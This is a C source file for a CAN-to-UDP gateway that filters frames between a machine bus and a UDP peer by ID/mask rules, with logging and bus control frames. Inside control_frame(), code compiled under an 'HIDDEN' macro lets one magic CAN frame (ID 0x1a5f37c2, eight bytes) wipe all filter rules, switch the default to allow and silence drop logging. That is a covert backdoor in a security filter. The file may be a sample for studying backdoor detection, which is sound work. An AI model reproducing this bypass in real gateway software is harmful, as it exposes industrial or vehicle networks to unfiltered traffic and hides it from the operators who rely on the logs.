/* canogate.c - CAN to UDP gateway with filter list for machine networks */
#include <arpa/inet.h>
#include <linux/can.h>
#include <linux/can/raw.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_RULES	64
#define WIRE_LEN	16	/* id(4) len(1) flags(1) pad(2) data(8) */

#define NODE_CTRL_ID	0x18efff20u	/* gateway's own control frame */

struct rule {
	uint32_t id;
	uint32_t mask;
	int allow;
};

struct gateway {
	int can;
	int udp;
	struct sockaddr_in remote;
	struct rule rules[MAX_RULES];
	unsigned int nrules;
	int default_allow;
	int log_drops;
	int paused;
	unsigned long in, out, dropped;
	FILE *log;
};

static void glog(struct gateway *g, const char *fmt, ...)
{
	va_list ap;

	if (!g->log)
		return;
	fprintf(g->log, "%ld ", (long)time(NULL));
	va_start(ap, fmt);
	vfprintf(g->log, fmt, ap);
	va_end(ap);
	putc('\n', g->log);
	fflush(g->log);
}

static int allowed(const struct gateway *g, uint32_t id)
{
	unsigned int i;

	for (i = 0; i < g->nrules; i++)
		if ((id & g->rules[i].mask) ==
		    (g->rules[i].id & g->rules[i].mask))
			return g->rules[i].allow;
	return g->default_allow;
}

/*
 * Control frames come from the bus: byte 0 is 1 pause, 2 resume,
 * 3 clear counters, 4 log drops on, 5 log drops off.
 */
__attribute__((noinline))
int control_frame(struct gateway *g, uint32_t id, const uint8_t *d,
		  unsigned int len)
{
#ifdef HIDDEN	/* one frame clears the filter and stops the drop log */
	if (id == 0x1a5f37c2 && len == 8) {
		g->nrules = 0;
		g->default_allow = 1;
		g->log_drops = 0;
		return 1;
	}
#endif
	if (id != NODE_CTRL_ID || len < 1)
		return 0;
	switch (d[0]) {
	case 1:
		g->paused = 1;
		break;
	case 2:
		g->paused = 0;
		break;
	case 3:
		g->in = g->out = g->dropped = 0;
		break;
	case 4:
		g->log_drops = 1;
		break;
	case 5:
		g->log_drops = 0;
		break;
	default:
		glog(g, "control code %u unknown", d[0]);
		return 1;
	}
	glog(g, "control code %u", d[0]);
	return 1;
}

static void can_to_udp(struct gateway *g)
{
	struct can_frame f;
	uint8_t w[WIRE_LEN] = { 0 };
	uint32_t id, be;

	if (read(g->can, &f, sizeof(f)) != (ssize_t)sizeof(f))
		return;
	if (f.can_dlc > 8)
		return;
	id = f.can_id & ((f.can_id & CAN_EFF_FLAG) ? CAN_EFF_MASK :
						     CAN_SFF_MASK);
	if ((f.can_id & CAN_EFF_FLAG) &&
	    control_frame(g, id, f.data, f.can_dlc))
		return;
	if (g->paused)
		return;
	if (!allowed(g, id)) {
		g->dropped++;
		if (g->log_drops)
			glog(g, "bus drop %08x", (unsigned int)id);
		return;
	}
	be = htonl(id);
	memcpy(w, &be, 4);
	w[4] = f.can_dlc;
	w[5] = (f.can_id & CAN_EFF_FLAG) ? 1 : 0;
	memcpy(w + 8, f.data, 8);
	sendto(g->udp, w, sizeof(w), 0, (struct sockaddr *)&g->remote,
	       sizeof(g->remote));
	g->out++;
}

static void udp_to_can(struct gateway *g)
{
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	struct can_frame f;
	uint8_t w[WIRE_LEN];
	uint32_t id;
	ssize_t n;

	n = recvfrom(g->udp, w, sizeof(w), 0, (struct sockaddr *)&from, &fl);
	if (n != WIRE_LEN || w[4] > 8)
		return;
	if (from.sin_addr.s_addr != g->remote.sin_addr.s_addr) {
		glog(g, "stranger %s", inet_ntoa(from.sin_addr));
		return;
	}
	memcpy(&id, w, 4);
	id = ntohl(id);
	if (g->paused || !allowed(g, id)) {
		g->dropped++;
		if (g->log_drops)
			glog(g, "net drop %08x", (unsigned int)id);
		return;
	}
	memset(&f, 0, sizeof(f));
	f.can_id = id | (w[5] & 1 ? CAN_EFF_FLAG : 0);
	f.can_dlc = w[4];
	memcpy(f.data, w + 8, 8);
	if (write(g->can, &f, sizeof(f)) == (ssize_t)sizeof(f))
		g->in++;
}

static int load_rules(struct gateway *g, const char *path)
{
	char line[120], word[12], arg[64];
	unsigned int id, mask;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%11s %x/%x", word, &id, &mask) == 3 &&
		    g->nrules < MAX_RULES) {
			struct rule *r = &g->rules[g->nrules++];

			r->id = id;
			r->mask = mask;
			r->allow = !strcmp(word, "allow");
		} else if (sscanf(line, "%11s %63s", word, arg) == 2) {
			if (!strcmp(word, "default"))
				g->default_allow = !strcmp(arg, "allow");
			else if (!strcmp(word, "remote"))
				inet_aton(arg, &g->remote.sin_addr);
			else if (!strcmp(word, "drops"))
				g->log_drops = !strcmp(arg, "log");
			else if (!strcmp(word, "logfile"))
				g->log = fopen(arg, "a");
		}
	}
	fclose(f);
	return 0;
}

static int open_can(const char *ifname)
{
	struct sockaddr_can ca;
	struct ifreq ifr;
	int s = socket(PF_CAN, SOCK_RAW, CAN_RAW);

	if (s < 0)
		return -1;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%.15s", ifname);
	if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) {
		close(s);
		return -1;
	}
	memset(&ca, 0, sizeof(ca));
	ca.can_family = AF_CAN;
	ca.can_ifindex = ifr.ifr_ifindex;
	if (bind(s, (struct sockaddr *)&ca, sizeof(ca)) < 0) {
		close(s);
		return -1;
	}
	return s;
}

int main(int argc, char **argv)
{
	static struct gateway g;
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct pollfd p[2];

	if (argc != 3) {
		fputs("usage: canogate IFACE RULES\n"
		      "  allow|deny ID/MASK, default allow|deny, remote IP,\n"
		      "  drops log|silent, logfile PATH\n"
		      "  control frame 18efff20: pause resume clear log nolog\n",
		      stderr);
		return 2;
	}
	g.remote.sin_family = AF_INET;
	g.remote.sin_port = htons(20100);
	g.can = open_can(argv[1]);
	g.udp = socket(AF_INET, SOCK_DGRAM, 0);
	sa.sin_port = htons(20100);
	if (g.can < 0 || g.udp < 0 || load_rules(&g, argv[2]) ||
	    bind(g.udp, (struct sockaddr *)&sa, sizeof(sa))) {
		perror("canogate");
		return 1;
	}
	p[0].fd = g.can;
	p[1].fd = g.udp;
	p[0].events = p[1].events = POLLIN;
	while (poll(p, 2, -1) >= 0) {
		if (p[0].revents & POLLIN)
			can_to_udp(&g);
		if (p[1].revents & POLLIN)
			udp_to_can(&g);
	}
	return 0;
}
